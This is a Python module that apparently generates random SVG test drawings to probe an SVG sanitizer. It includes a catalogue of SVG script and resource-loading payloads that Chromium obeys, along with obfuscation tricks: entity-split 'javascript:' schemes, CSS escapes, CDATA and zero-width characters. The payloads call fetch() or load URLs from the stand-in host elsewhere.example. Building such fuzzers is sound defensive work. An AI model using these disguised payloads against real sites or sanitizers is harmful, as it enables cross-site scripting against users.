"""SVG drawings that try to run or load something, written at random in the disguises that XML and CSS allow."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

__all__ = ["ACTIVE", "drawing", "within"]

ELSEWHERE = "http://elsewhere.example"
RUN = f"fetch('{ELSEWHERE}/ran')"
LOAD = f"{ELSEWHERE}/loaded"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

ACTIVE = {
    "script": f"<script>{RUN}</script>",
    "link": f"<a href=\"javascript:{RUN}\"><text y='9'>x</text></a>",
    "broken link": f"<a xlink:href=\"java&#10;script:{RUN}\"><text y='9'>x</text></a>",
    "set link": f'<a><set attributeName="href" to="javascript:{RUN}"/><text y=\'9\'>x</text></a>',
    "event": f'<rect><set attributeName="x" to="1" onbegin="{RUN}"/></rect>',
    "frame": f"<h:iframe src='{LOAD}'/>",
    "picture of HTML": f"<h:img src='{LOAD}'/>",
    "picture": f"<image href='{LOAD}' width='9' height='9'/>",
    "HTML inside": f"<foreignObject width='9' height='9'><h:img src='{LOAD}'/></foreignObject>",
    "import": f"<style>@import '{LOAD}';</style>",
    "escaped import": f"<style>@im\\port '{LOAD}';</style>",
    "set of pictures": f"<style>svg{{background:image-set('{LOAD}' 1x)}}</style>",
    "background": f"<style>svg{{background:u\\72l({LOAD})}}</style>",
    "font": f"<style>@font-face{{font-family:a;src:url({LOAD})}}</style><text y='9' font-family='a'>x</text>",
    "filter": f"<filter id='f'><feImage href='{LOAD}'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    "redirect": f"<h:meta http-equiv='refresh' content='0;url={LOAD}'/>",
}
"""One of each kind that Chromium obeys."""

_FORMS: tuple[Callable[[str], str], ...] = (
    str.swapcase,
    lambda char: f"&#{ord(char)};",
    lambda char: f"&#x{ord(char):X};",
    lambda char: f"\\{ord(char):x} ",
    lambda char: f"\\{ord(char):06x}",
    lambda char: f"\\{char}",
    lambda char: f"{char}&#10;",
    lambda char: f"&#9;{char}",
    lambda char: f"{char}/**/",
    lambda char: f"{char}\u200b",
)
_IN_TEXT: tuple[Callable[[str], str], ...] = (
    *_FORMS,
    lambda char: f"{char}<!-- -->",
    lambda char: f"<![CDATA[{char}]]>",
)


def within(inside: str, root: str = "") -> str:
    """A drawing of these elements, its outermost with these attributes."""
    names = (
        'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'
    )
    return f"<svg {names} {root}>{inside}</svg>"


def drawing(chance: random.Random) -> str:
    """A drawing by chance."""
    start = chance.choice(
        ("",) * 12 + ('<?xml version="1.0"?>', f'<?xml-stylesheet href="{LOAD}"?>', '<!DOCTYPE svg [<!ENTITY a "b">]>')
    )
    root = chance.choice(
        ("",) * 8 + ('xmlns:x="urn:x" xmlns:svg="http://www.w3.org/2000/svg"', f'onload="{RUN}"', f'style="{_rule(chance)}"')
    )
    return start + within("".join(chance.choice(_PIECES)(chance) for _ in range(chance.randint(1, 2))), root)


def _disguised(chance: random.Random, word: str, forms: Sequence[Callable[[str], str]] = _FORMS) -> str:
    """A word with none, one or half of its letters written as XML or CSS would read them too, or broken up."""
    often = chance.choice((0, 1 / len(word), 0.5))
    return "".join(chance.choice(forms)(char) if chance.random() < often else char for char in word)


def _address(chance: random.Random) -> str:
    if chance.random() < 0.5:
        scheme = _disguised(chance, chance.choice(("javascript", "vbscript", "feed:javascript")))
        before, colon = chance.choice(("", " ", "&#9;", "&#xFEFF;", "#", "?", "./")), chance.choice((":", "&#58;", "&#10;:"))
        return f"{before}{scheme}{colon}{RUN}"
    return chance.choice(
        (
            *("#a", PIXEL, ""),
            *(LOAD, LOAD.partition(":")[2], "/loaded", "loaded.svg#a", f"&#9;{LOAD}"),
            f"data:text/html,&lt;script>{RUN}&lt;/script>",
            f"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;script>{RUN}&lt;/script>&lt;/svg>",
        )
    )


def _url(chance: random.Random, forms: Sequence[Callable[[str], str]] = _FORMS) -> str:
    name = _disguised(
        chance, chance.choice(("url", "url", "image-set", "image", "src", "cross-fade", "-webkit-image-set")), forms
    )
    quote = chance.choice(("", "'", "&quot;", " "))
    address = chance.choice((LOAD, f"{LOAD}#a", "/loaded", "#a", "#a", PIXEL, f"\\68ttp:{LOAD.partition(':')[2]}"))
    return f"{name}({quote}{address}{quote})"


def _rule(chance: random.Random, forms: Sequence[Callable[[str], str]] = _FORMS) -> str:
    names = ("fill", "background", "mask", "filter", "cursor", "content", "--a", "list-style", "clip-path", "marker", "color")
    return f"{chance.choice(names)}:{chance.choice((_url(chance, forms), 'red', 'var(--a)', 'rgb(1 2 3)', 'env(a)', '/*'))}"


def _sheet(chance: random.Random, forms: Sequence[Callable[[str], str]] = _FORMS) -> str:
    return chance.choice(
        (
            f"svg,text,*{{{_rule(chance, forms)};{_rule(chance, forms)}}}",
            f"@{_disguised(chance, 'import', forms)} {chance.choice((_url(chance, forms), repr(LOAD)))};",
            f"@font-face{{font-family:a;src:{_url(chance, forms)}}}text{{font-family:a}}",
            f"@media all{{svg{{{_rule(chance, forms)}}}}}",
            f"@namespace url({LOAD});@layer a;svg{{{_rule(chance, forms)}}}",
            f"}}}}svg{{{_rule(chance, forms)}}}",
            f"a{{b:'\\\n{_rule(chance, forms)}}}svg{{{_rule(chance, forms)}}}",
        )
    )


def _named_in_disguise(chance: random.Random) -> str:
    plain = chance.choice(("script", "iframe", "img", "object", "embed", "audio", "link", "meta", "base", "handler", "style"))
    name = chance.choice((plain, plain.upper(), f"h:{plain}", f"svg:{plain}", f"x:{plain}"))
    return f'<{name} href="{_address(chance)}" src="{_address(chance)}">{RUN}</{name}>'


def _link(chance: random.Random) -> str:
    return f'<a {chance.choice(("href", "xlink:href", "h:href"))}="{_address(chance)}"><text y="9">x</text></a>'


def _reference(chance: random.Random) -> str:
    name = chance.choice(
        ("use", "image", "feImage", "textPath", "linearGradient", "pattern", "mpath", "cursor", "tref", "filter")
    )
    return (
        f'<{name} {chance.choice(("href", "xlink:href", "src", "xml:base"))}="{_address(chance)}" id="a" width="9" height="9"/>'
    )


def _animation(chance: random.Random) -> str:
    name = chance.choice(("set", "animate", "animateTransform"))
    target = chance.choice(("href", "xlink:href", " href", "HREF", "onclick", "style", "fill", "mask", "fill"))
    value = chance.choice((_address, _url))(chance)
    inside = f'<{name} attributeName="{target}" {chance.choice(("to", "from", "values", "by"))}="{value}" dur="1s"/>'
    return f'<a href="#a">{inside}<text y="9">x</text></a>'


def _event(chance: random.Random) -> str:
    name = chance.choice(
        ("onbegin", "onload", "ONBEGIN", "onclick", "xlink:onbegin", "onend", "h:onbegin", "data-onbegin", "begin")
    )
    return f'<rect width="9" height="9"><set attributeName="x" to="1" {name}="{RUN}"/></rect>'


_PIECES: tuple[Callable[[random.Random], str], ...] = (
    _named_in_disguise,
    _link,
    _link,
    _reference,
    _reference,
    _animation,
    _animation,
    _event,
    lambda chance: f'<rect width="9" height="9" style="{_rule(chance)};{_rule(chance)}"/>',
    lambda chance: (
        f'<rect width="9" height="9" {chance.choice(("fill", "mask", "filter", "cursor", "data-a"))}="{_url(chance)}"/>'
    ),
    lambda chance: f"<style>{_sheet(chance, _IN_TEXT)}</style><text y='9'>x</text>",
    lambda chance: f"<style>{_sheet(chance, _IN_TEXT)}</style><text y='9'>x</text>",
    lambda chance: f"<style><![CDATA[{_sheet(chance)}]]></style>",
    lambda chance: chance.choice(
        (
            f"<switch><foreignObject requiredExtensions='http://ns.adobe.com/a'><g><h:p>{RUN}</h:p></g></foreignObject></switch>",
            f"<foreignObject requiredExtensions='http://ns.adobe.com/a'><x:a xmlns:x='urn:x'>{RUN}</x:a></foreignObject>",
            f"<title>&lt;script>{RUN}&lt;/script></title>",
            f"<desc><![CDATA[<script>{RUN}</script>]]></desc>",
            f"<x:script xmlns:x='urn:x'>{RUN}</x:script>",
            f"<?xml-stylesheet href='{LOAD}'?>",
            f"<!-- --><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
            f"<g xmlns=''><script>{RUN}</script></g>",
            f"<metadata>&lt;script>{RUN}&lt;/script></metadata>",
        )
    ),
)
